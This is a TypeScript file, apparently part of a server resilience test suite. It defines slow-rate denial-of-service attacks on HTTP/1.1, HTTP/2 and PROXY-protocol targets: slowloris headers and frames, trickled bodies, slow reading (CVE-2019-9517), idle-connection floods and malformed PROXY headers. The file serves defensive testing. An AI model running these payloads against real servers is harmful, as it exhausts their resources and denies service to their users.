import { frame, FRAME } from '../../differential/peers/h2';
import { type Attack } from '../attack';
import { type Client } from '../client';
import { GET_BIG, opened, request } from '../h2-bytes';

/** Connections that are open at once. */
const MANY = 100;
const ROUNDS = 20;

/** Sends pieces on many connections, a little at a time. */
async function drip(open: () => Promise<Client>, first: Buffer | string, piece: Buffer | string): Promise<void> {
  const clients = await Promise.all(Array.from({ length: MANY }, open));
  for (const client of clients) await client.send(first);
  for (let round = 0; round < ROUNDS; round++) {
    for (const client of clients) await client.send(piece);
    await new Promise((done) => setTimeout(done, 10));
  }
}

/** Little by little, or not at all. */
export const SLOW: readonly Attack[] = [
  {
    name: 'slowloris: heads',
    target: 'h1',
    run: (attacker) => drip(() => attacker.connect(), 'GET / HTTP/1.1\r\nhost: a\r\nx-a: ', 'b'),
  },
  {
    name: 'a large head, then byte by byte',
    target: 'h1',
    run: async (attacker) => {
      const client = await attacker.connect();
      const fields = Array.from({ length: 96 }, (_, i) => `x-large-${i}: ${'v'.repeat(560)}\r\n`).join('');
      await client.send(`GET / HTTP/1.1\r\nhost: a\r\n${fields}x-last: `);
      for (let i = 0; i < 2000 && !client.ended; i++) {
        await client.send('b');
        await new Promise((done) => setTimeout(done, 1));
      }
    },
  },
  {
    name: 'slowloris: frames',
    target: 'h2',
    run: (attacker) => drip(() => attacker.http2(), frame(FRAME.headers, 5, 1, Buffer.alloc(200)).subarray(0, 20), Buffer.from([0])),
  },
  {
    name: 'slowloris: prefaces',
    target: 'h2',
    run: (attacker) => drip(() => attacker.connect(), 'PRI * HT', ''),
  },
  {
    name: 'trickled bodies',
    known: 'R-U-Dead-Yet',
    target: 'h1',
    run: (attacker) => drip(() => attacker.connect(), 'POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n', 'x'),
  },
  {
    name: 'trickled DATA',
    target: 'h2',
    run: (attacker) => drip(() => attacker.http2(), opened(1), frame(FRAME.data, 0, 1, 'x')),
  },
  {
    name: 'slow reading',
    large: true,
    known: 'CVE-2019-9517',
    target: 'h1',
    run: async (attacker) => {
      const clients = await Promise.all(Array.from({ length: 20 }, () => attacker.connect()));
      for (const client of clients) {
        client.stall();
        await client.send('GET /big HTTP/1.1\r\nhost: a\r\n\r\n');
      }
      await new Promise((done) => setTimeout(done, 250));
    },
  },
  {
    name: 'slow reading over HTTP/2',
    large: true,
    target: 'h2',
    run: async (attacker) => {
      for (let c = 0; c < 20; c++) {
        const client = await attacker.http2(4, 0x7fff_ffff);
        client.stall();
        await client.send(Buffer.concat([frame(FRAME.windowUpdate, 0, 0, Buffer.from([0x7f, 0, 0, 0])), request(1, GET_BIG)]));
      }
      await new Promise((done) => setTimeout(done, 250));
    },
  },
  {
    name: 'idle connections',
    target: 'h1',
    run: async (attacker) => {
      for (let i = 0; i < 10; i++) await Promise.all(Array.from({ length: 50 }, () => attacker.connect()));
    },
  },
  {
    name: 'idle connections over HTTP/2',
    target: 'h2',
    run: async (attacker) => {
      for (let i = 0; i < 10; i++) await Promise.all(Array.from({ length: 30 }, () => attacker.http2()));
      await new Promise((done) => setTimeout(done, 100));
    },
  },
  {
    name: 'PROXY headers, slowly',
    target: 'proxied',
    run: (attacker) => drip(() => attacker.connect(), 'PROXY TCP4 1.1.1.1 ', '2'),
  },
  {
    name: 'PROXY headers with long extensions',
    target: 'proxied',
    run: (attacker) =>
      attacker.flood(
        () => attacker.connect(),
        (_client, i) =>
          i === 0
            ? Buffer.concat([
                Buffer.from('\r\n\r\n\0\r\nQUIT\n', 'latin1'),
                Buffer.from([0x21, 0x11, 0xff, 0xff, 1, 1, 1, 1, 2, 2, 2, 2, 0, 1, 0, 2]),
              ])
            : Buffer.alloc(1000, 4),
      ),
  },
];
